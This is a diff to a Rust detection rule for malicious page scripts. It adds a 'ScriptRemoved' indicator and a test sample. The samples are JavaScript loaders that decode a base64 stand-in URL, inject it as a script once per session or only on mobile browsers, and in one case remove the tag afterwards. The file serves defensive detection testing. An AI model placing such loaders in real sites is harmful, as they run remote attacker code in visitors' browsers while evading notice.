@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
             Atom::BrowserCheck,
             Atom::Devtools,
             Atom::PageClick,
+            Atom::ScriptRemoved,
         ]),
         one(&[Atom::Cookie, Atom::Storage, Atom::Referrer, Atom::SignedIn]),
     ],
@@ -26,6 +27,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            r#"if(!sessionStorage.k){sessionStorage.k=1;var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s).remove()}"#,
             r#"if(!localStorage.getItem('k')&&/Android|iPhone/.test(navigator.userAgent)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jb2RlZC1ob3N0LmV4YW1wbGUvYS5qcw==');document.head.appendChild(s)}"#,
         ],
         without: &[
